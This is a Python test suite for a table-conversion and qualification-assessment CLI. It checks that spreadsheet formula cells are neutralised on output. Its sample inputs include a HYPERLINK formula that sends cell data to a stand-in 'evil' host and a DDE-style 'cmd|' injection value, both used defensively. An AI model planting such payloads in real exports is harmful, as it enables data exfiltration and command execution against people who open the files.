"""From file to file: any kind in and out, one rule set or all, rows refused by number, nothing live, nothing lost."""

import csv
import re
import tempfile
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from vqlogic import load_rulesets
from vqlogic.files import csvrows
from vqlogic.files.inert import inert
from vqlogic.files.tablefile import Source, read_text
from vqlogic.tables.routecolumns import RESULT_COLUMNS
from vqlogic.terminal import factsrun
from vqlogic.terminal.commands import main

TEXT = "no,name,occupation_years,certificate_5\n01,王,5,是\n02,NA,,\n03,=1+1,2.5,no\n"
FACTS = {"occupation_years": [5.0, None, 2.5], "certificate_5": [True, None, False]}
RESULTS = {"highest_level": [4, None, 5], "possible_level": [1, 1, 1], "qualifying_routes": ["4-3;5-2", "", "5-2"]}


def run(*arguments: object) -> int:
    return main([str(argument) for argument in ("table", *arguments)])


def written(folder: Path, name: str, text: str = TEXT) -> Path:
    """The same table as a file of any kind: text in a .csv, numbers and truth values elsewhere."""
    path = folder / name
    if path.suffix == ".csv":
        path.write_text(text, encoding="utf-8")
        return path
    frame = pl.DataFrame({"no": ["01", "02", "03"], "name": ["王", "NA", "=1+1"], **FACTS})
    if path.suffix == ".parquet":
        frame.write_parquet(path)
    else:
        from vqlogic.files.workbook import write_workbook

        write_workbook(path, name, frame.columns, [frame])
    return path


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def cells(path: Path) -> dict[str, list]:
    """A result's columns, empty cells as None."""
    if path.suffix == ".parquet":
        return pl.read_parquet(path).to_dict(as_series=False)
    table = rows(path) if path.suffix == ".csv" else CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    return {name: [value if value != "" else None for value in column] for name, *column in zip(*table, strict=True)}


@pytest.mark.parametrize("out", [".csv", ".xlsx", ".parquet"])
@pytest.mark.parametrize("into", [".csv", ".xlsx", ".parquet"])
def test_a_table_of_any_kind_becomes_one_of_any_kind(into, out, tmp_path):
    target = tmp_path / f"out{out}"
    assert run(written(tmp_path, f"in{into}"), "--ruleset", "national-general", "-o", target) == 0
    found = cells(target)
    assert list(found) == ["no", "name", "occupation_years", "certificate_5", *RESULT_COLUMNS]
    assert found["no"] == ["01", "02", "03"]
    assert found["name"] == ["王", "NA", "'=1+1" if out == ".csv" else "=1+1"]
    if out != ".csv":
        assert {name: found[name] for name in FACTS} == FACTS
    routes = [text or "" for text in found["qualifying_routes"]]
    levels = {name: [None if level is None else int(level) for level in found[name]] for name in RESULT_COLUMNS[:2]}
    assert {**levels, "qualifying_routes": routes} == RESULTS


def test_all_rule_sets_at_once_have_columns_of_their_own(tmp_path):
    assert run(written(tmp_path, "in.csv"), "--ruleset", "all", "-o", tmp_path / "out.csv") == 0
    assert rows(tmp_path / "out.csv")[0][4:] == [f"{id}.{column}" for id in load_rulesets() for column in RESULT_COLUMNS]


def test_all_among_other_names_is_all(tmp_path):
    run(written(tmp_path, "in.csv"), "--ruleset", "general-ladder", "--ruleset", "all", "-o", tmp_path / "out.csv")
    run(tmp_path / "in.csv", "--ruleset", "all", "-o", tmp_path / "all.csv")
    assert rows(tmp_path / "out.csv") == rows(tmp_path / "all.csv")


def test_two_rule_sets_say_what_each_says_alone(tmp_path):
    ids = ["standard-2018", "national-general"]
    named = [argument for id in ids for argument in ("--ruleset", id)]
    run(written(tmp_path, "in.csv"), *named, "-o", tmp_path / "both.csv")
    both = cells(tmp_path / "both.csv")
    for id in ids:
        run(tmp_path / "in.csv", "--ruleset", id, "-o", tmp_path / "one.csv")
        one = cells(tmp_path / "one.csv")
        assert all(both[f"{id}.{column}"] == one[column] for column in RESULT_COLUMNS)


def test_other_columns_stay_byte_for_byte_and_only_live_formulas_are_quieted(tmp_path):
    source = written(tmp_path, "in.csv", 'a,age\n"x",\n007 ,3\n-3,\n-3+cmd|x,\n@x,\n"=1,2",\n+8613800000000,\n-,\n')
    assert run(source, "-o", tmp_path / "out.csv") == 0
    lines = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()[1:]
    carried = [line.rsplit(",", 4)[0] for line in lines]
    assert [cell.strip('"') for cell in carried] == ["x", "007 ", "-3", "'-3+cmd|x", "'@x", "'=1,2", "+8613800000000", "-"]


LIVE = [
    "=1+1",
    "@x",
    "\t=1",
    "\r=1",
    '+"a"&HYPERLINK("http://evil/?"&A1)',
    "-1,5+A1",
    "-;x",
    '-"1"',
    "+86 10",
    "-3-",
    "-1e",
    "+1,2",
]
HARMLESS = ["-3", "+4.5", "-1.2e+10", "-", "a=b", "王", "", '"', "'=1", "x\n=1", "5,-3,=1"]
CELLS = st.sampled_from(LIVE + HARMLESS) | st.text(st.sampled_from("=@+-\t\r\n\"',;.1eEa"), max_size=6)


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=4), st.sampled_from(",;\t"), st.booleans())
def test_every_cell_that_is_written_is_inert_whatever_stands_beside_it(table, separator, enclosed):
    style = csv.QUOTE_ALL if enclosed else csv.QUOTE_MINIMAL
    with TemporaryDirectory() as folder:
        source, output = Path(folder) / "in.csv", Path(folder) / "out.csv"
        with source.open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, delimiter=separator, quoting=style)
            writer.writerows([["a", "b", "c", "age"], *([*row, "20"] for row in table)])
        assert run(source, "-o", output) == 0
        with output.open(encoding="utf-8", newline="") as file:
            found = [row[:3] for row in csv.reader(file, delimiter=separator)][1:]
        assert found == [[inert(cell) for cell in row] for row in table]
        frame = pl.DataFrame([*table], schema=["a", "b", "c"], orient="row").with_columns(age=20)
        frame.write_parquet(Path(folder) / "in.parquet")
        assert run(Path(folder) / "in.parquet", "-o", output) == 0
        assert [row[:3] for row in rows(output)[1:]] == [[inert(cell) for cell in row] for row in table]


@pytest.mark.parametrize("cell", LIVE)
def test_what_a_spreadsheet_would_run_is_live(cell):
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_it_would_not_run_is_not(cell):
    assert inert(cell) == cell


def test_a_header_and_a_refused_cell_are_quieted_too(tmp_path):
    source = written(tmp_path, "in.csv", "=x,age\n1,=2+3\n")
    assert run(source, "-o", tmp_path / "out.csv") == 1
    assert rows(tmp_path / "out.csv")[0][0] == "'=x"
    assert rows(tmp_path / "out.rejects.csv")[1][:3] == ["2", "age", "'=2+3"]


@pytest.mark.parametrize("cell", ["x\r=1+1", "x\n=1+1", 'x",=1+1'])
def test_a_refused_cell_stays_in_its_cell(cell, tmp_path):
    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["name", "age"], ["A", cell]])
    assert run(tmp_path / "in.csv", "-o", tmp_path / "out.csv") == 1
    assert rows(tmp_path / "out.rejects.csv")[1][:3] == ["2", "age", cell]


@pytest.mark.parametrize("name", ["in.xlsx", "in.parquet"])
def test_a_bad_cell_is_refused_by_its_row_whatever_the_kind(name, tmp_path):
    frame = pl.DataFrame({"n": ["a", "b", "c"], "occupation_years": [1.0, -1.0, 5.0], "training_5": ["yes", "1", "maybe"]})
    if name.endswith(".parquet"):
        frame.write_parquet(tmp_path / name)
    else:
        from vqlogic.files.workbook import write_workbook

        write_workbook(tmp_path / name, name, frame.columns, [frame])
    assert run(tmp_path / name, "--ruleset", "national-general", "-o", tmp_path / "out.csv") == 1
    refused = [row[:3] for row in rows(tmp_path / "out.rejects.csv")[1:]]
    assert refused == [["3", "occupation_years", "-1"], ["4", "training_5", "maybe"]]
    assert [row[0] for row in rows(tmp_path / "out.csv")[1:]] == ["a"]


@pytest.mark.parametrize("size", [1, 7, 30, 1 << 20])
@pytest.mark.parametrize("quoted", [False, True])
def test_a_file_cut_into_blocks_gives_the_same_rows_and_row_numbers(size, quoted, tmp_path, monkeypatch):
    monkeypatch.setattr(csvrows, "BLOCK", size)
    mark = '"' if quoted else ""
    lines = ["n,occupation_years,x", "1,2,a", "", "2,five,b", f"{mark}3{mark},5,c", "4,6", "5,2,d", "6,2,e,f", "7,,g"]
    source = written(tmp_path, "in.csv", "\n".join(lines))
    assert run(source, "--ruleset", "national-general", "-o", tmp_path / "out.csv") == 1
    assert [(row[0], row[3]) for row in rows(tmp_path / "out.csv")[1:]] == [("1", "5"), ("3", "4"), ("5", "5"), ("7", "")]
    assert [row[:2] for row in rows(tmp_path / "out.rejects.csv")[1:]] == [["4", "occupation_years"], ["6", ""], ["8", ""]]


def test_a_table_in_utf_16_is_read_by_its_mark(tmp_path):
    (tmp_path / "in.csv").write_bytes("姓名\toccupation_years\n王\t5\n".encode("utf-16"))
    assert run(tmp_path / "in.csv", "--ruleset", "national-general", "-o", tmp_path / "out.csv") == 0
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert "王\t5\t4\t1\t4-3;5-2" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")


def test_cells_separated_by_semicolons_stay_apart_from_routes(tmp_path):
    source = written(tmp_path, "in.csv", "name;occupation_years\nA;5\n")
    run(source, "--ruleset", "national-general", "-o", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8") as file:
        assert list(csv.reader(file, delimiter=";"))[1] == ["A", "5", "4", "1", "4-3;5-2"]


@pytest.mark.parametrize("out", ["out.csv", "out.xlsx", "out.parquet"])
def test_a_table_without_rows_gives_one_without_rows(out, tmp_path):
    assert run(written(tmp_path, "in.csv", "name,age\n"), "-o", tmp_path / out) == 0
    assert set(cells(tmp_path / out)) == {"name", "age", *RESULT_COLUMNS}


def test_a_number_that_a_workbook_would_round_is_kept_as_text(tmp_path):
    run(written(tmp_path, "in.csv", "occupation_years\n1.9999999999999998\n"), "-o", tmp_path / "out.xlsx")
    assert cells(tmp_path / "out.xlsx")["occupation_years"] == ["1.9999999999999998"]


def test_another_kind_of_file_is_refused_with_the_kinds_there_are(tmp_path, capsys):
    assert run(written(tmp_path, "in.csv"), "-o", tmp_path / "out.xls") == 2
    assert "out.xls: is not a kind of table that can be written; allowed: .csv, .xlsx, .parquet" in capsys.readouterr().err


def test_column_names_that_a_parquet_file_cannot_hold_twice_are_refused(tmp_path, capsys):
    assert run(written(tmp_path, "in.csv", "x,x,age\n1,2,3\n"), "-o", tmp_path / "out.parquet") == 2
    assert 'in.csv: "x" stands twice in the header' in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


def test_a_table_in_gb_18030_is_read_and_written_as_utf_8(tmp_path):
    (tmp_path / "in.csv").write_bytes("姓名,occupation_years\n王小明,5\n".encode("gb18030"))
    assert run(tmp_path / "in.csv", "-o", tmp_path / "out.csv") == 0
    assert "\n王小明,5," in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("data", ["姓名,age\n黃國華,5\n".encode("big5"), "姓名,age\n王小明,5\n".encode() + b"\xe7\x8e,6\n"])
def test_a_table_in_big5_or_with_a_slip_in_its_utf_8_is_refused(tmp_path, capsys, data):
    (tmp_path / "in.csv").write_bytes(data)
    assert run(tmp_path / "in.csv", "-o", tmp_path / "out.csv") == 2
    assert "save it as CSV UTF-8" in capsys.readouterr().err


def test_progress_on_a_workbook_counts_the_rows_that_are_written(tmp_path, monkeypatch):
    monkeypatch.setattr(factsrun, "_PIECE_OF_A_WORKBOOK", 10)
    heard: list[float] = []
    source, output = written(tmp_path, "in.csv", "age\n" + "30\n" * 35), tmp_path / "out.xlsx"
    factsrun.assess_file(Source(source), output, tmp_path / "bad.csv", load_rulesets()["standard-2023"], str, heard.append)
    assert heard == pytest.approx([10 / 35, 20 / 35, 30 / 35, 1])
    assert len(cells(output)["age"]) == 35


def test_a_failure_half_way_leaves_nothing_behind(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(csvrows, "BLOCK", 8)
    (tmp_path / "in.csv").write_bytes(b"n,age\n1,2\n\xff,3\n")
    for out in ("out.csv", "out.parquet", "out.xlsx"):
        assert run(tmp_path / "in.csv", "-o", tmp_path / out) == 2
        assert "save it as CSV UTF-8" in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


KINDS = {
    "list": pa.array([[1], []]),
    "struct": pa.array([{"a": 1}, None]),
    "map": pa.array([[("a", 1)], []], pa.map_(pa.string(), pa.int32())),
    "duration": pa.array([1, None], pa.duration("us")),
    "binary": pa.array([b"\xff", None]),
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_column_that_has_no_text_is_named_with_its_type_and_only_parquet_holds_it(kind, tmp_path, capsys):
    pq.write_table(pa.table({"age": [20.0, 30.0], "x": KINDS[kind]}), tmp_path / "in.parquet")
    for out in ("out.csv", "out.xlsx"):
        assert run(tmp_path / "in.parquet", "-o", tmp_path / out) == 2
        said = capsys.readouterr().err
        assert re.match(r'in\.parquet: "x" is a column of the type .*, which cannot be written as text\n', said)
        assert kind in said
    assert [path.name for path in tmp_path.iterdir()] == ["in.parquet"]
    assert run(tmp_path / "in.parquet", "-o", tmp_path / "out.parquet") == 0
    pq.write_table(pa.table({"姓名": ["王", "李"], "证书等级": [5, 4], "x": KINDS[kind]}), tmp_path / "class.parquet")
    assert run(tmp_path / "class.parquet", "-o", tmp_path / "class-out.parquet") == 2
    assert '"x" is a column of the type' in capsys.readouterr().err


@pytest.mark.parametrize("out", ["out.csv", "out.xlsx", "out.parquet"])
def test_a_column_that_cannot_be_read_is_named_with_its_type(out, tmp_path, capsys):
    long = pa.array([Decimal("1.5"), None], pa.decimal256(50, 2))
    pq.write_table(pa.table({"age": [20.0, 30.0], "x": long}), tmp_path / "in.parquet")
    assert run(tmp_path / "in.parquet", "-o", tmp_path / out) == 2
    assert 'in.parquet: "x" is a column of the type decimal256(50, 2), which cannot be read' in capsys.readouterr().err


@pytest.mark.parametrize("out", ["out.csv", "out.xlsx"])
def test_no_number_is_empty_and_infinity_is_text(out, tmp_path):
    nan, inf = float("nan"), float("inf")
    pl.DataFrame({"occupation_years": [5.0, nan, 2.0], "x": [nan, inf, -inf]}).write_parquet(tmp_path / "in.parquet")
    assert run(tmp_path / "in.parquet", "--ruleset", "national-general", "-o", tmp_path / out) == 0
    found = cells(tmp_path / out)
    assert [str(value).removesuffix(".0") for value in found["occupation_years"]] == ["5", "None", "2"]
    assert found["x"] == [None, "inf", "'-inf" if out == "out.csv" else "-inf"]


@pytest.mark.parametrize("out", ["out.csv", "out.xlsx"])
def test_columns_of_one_name_in_a_parquet_file_stay(out, tmp_path):
    twice = pa.Table.from_arrays([pa.array([20.0]), pa.array([2]), pa.array([3])], names=["age", "x", "x"])
    pq.write_table(twice, tmp_path / "in.parquet")
    assert run(tmp_path / "in.parquet", "-o", tmp_path / out) == 0
    assert read_text(tmp_path / out, out).header[:3] == ["age", "x", "x"]
    assert read_text(tmp_path / out, out).frame.row(0)[:3] == ("20", "2", "3")


def test_a_negative_decimal_is_a_bad_cell(tmp_path):
    pq.write_table(pa.table({"age": pa.array([Decimal("5.00"), Decimal("-1")])}), tmp_path / "in.parquet")
    assert run(tmp_path / "in.parquet", "-o", tmp_path / "out.csv") == 1
    assert rows(tmp_path / "out.rejects.csv")[1][:2] == ["3", "age"]


def test_a_parquet_file_damaged_in_the_middle_is_said_to_be(tmp_path, capsys):
    source = tmp_path / "in.parquet"
    pl.DataFrame({"age": range(50_000)}).write_parquet(source, compression="snappy")
    data = bytearray(source.read_bytes())
    data[100:5000] = bytes(4900)
    source.write_bytes(data)
    assert run(source, "-o", tmp_path / "out.csv") == 2
    assert "in.parquet: is not a .parquet file, or is damaged" in capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.parametrize("people", [False, True])
def test_what_a_sheet_cannot_hold_is_refused_and_nothing_is_cut(people, tmp_path, capsys):
    name = "年龄" if people else "age"
    long = written(tmp_path, "in.csv", f"姓名,{name}\n王,20\n{'v' * 32_768},20\n")
    assert run(long, "-o", tmp_path / "out.xlsx") == 2
    said = capsys.readouterr().err
    assert re.match("out.xlsx: row 3, 姓名: \"v+ … is longer than a workbook's cell can be", said)
    wide = written(tmp_path, "in.csv", ",".join([name, *map(str, range(16_381))]) + "\n" + "1," * 16_381 + "1\n")
    assert run(wide, "-o", tmp_path / "out.xlsx") == 2
    assert "out.xlsx: has more columns than a workbook can hold" in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


@pytest.mark.slow
def test_a_cell_and_a_row_as_long_as_a_sheet_holds_are_written(tmp_path):
    text = ",".join(["age", *map(str, range(16_380))]) + "\n20," + "1," * 16_379 + "v" * 32_767 + "\n"
    assert run(written(tmp_path, "in.csv", text), "-o", tmp_path / "out.xlsx") == 0
    found = cells(tmp_path / "out.xlsx")
    assert len(found) == 16_384
    assert len(found["16379"][0]) == 32_767


@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError])
def test_rows_of_a_workbook_that_fails_stay_nowhere(failure, tmp_path, monkeypatch):
    def fail(*_: object) -> None:
        assert list(waiting.rglob("*")), "nothing waits where it is looked for"
        raise failure

    waiting = tmp_path / "waiting"
    waiting.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(waiting))
    monkeypatch.setattr(factsrun, "_PIECE_OF_A_WORKBOOK", 2)
    monkeypatch.setattr(csvrows, "BLOCK", 60)
    source, results = written(tmp_path, "in.csv", "name,age\n" + "王,20\n" * 20), load_rulesets()["standard-2023"]
    with pytest.raises(failure):
        factsrun.assess_file(Source(source), tmp_path / "out.xlsx", None, results, str, fail)
    assert not list(waiting.iterdir())
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "waiting"]


@pytest.mark.parametrize("text", ['sep=;\n"age";"a,b"\n20;x\n', '\ufeffSEP=;\nage;"a,b"\n20;x\n', 'sep=;\n年龄;"a,b"\n20;x\n'])
@pytest.mark.parametrize("size", [1, 1 << 20])
def test_a_separator_said_above_the_header_is_said_again(text, size, tmp_path, monkeypatch):
    monkeypatch.setattr(csvrows, "BLOCK", size)
    source = written(tmp_path, "in.csv", text)
    assert run(source, "-o", tmp_path / "out.csv") == 0
    found = read_text(tmp_path / "out.csv", "out.csv")
    assert found.header[1:] == ["a,b", *RESULT_COLUMNS]
    assert found.frame.row(0)[:2] == ("20", "x")
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf" if text[0] == "\ufeff" else b"sep=;\n")


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_minus_zero_is_zero_in_a_file_too(kind, tmp_path):
    source = tmp_path / f"in.{kind}"
    frame = pl.DataFrame({"occupation_years": [-0.0, 5.0]})
    (frame.write_csv if kind == "csv" else frame.write_parquet)(source)
    assert run(source, "-o", tmp_path / "out.csv", "--ruleset", "national-general") == 0
    assert [row[-1] for row in rows(tmp_path / "out.csv")[1:]] == ["", "4-3;5-2"]
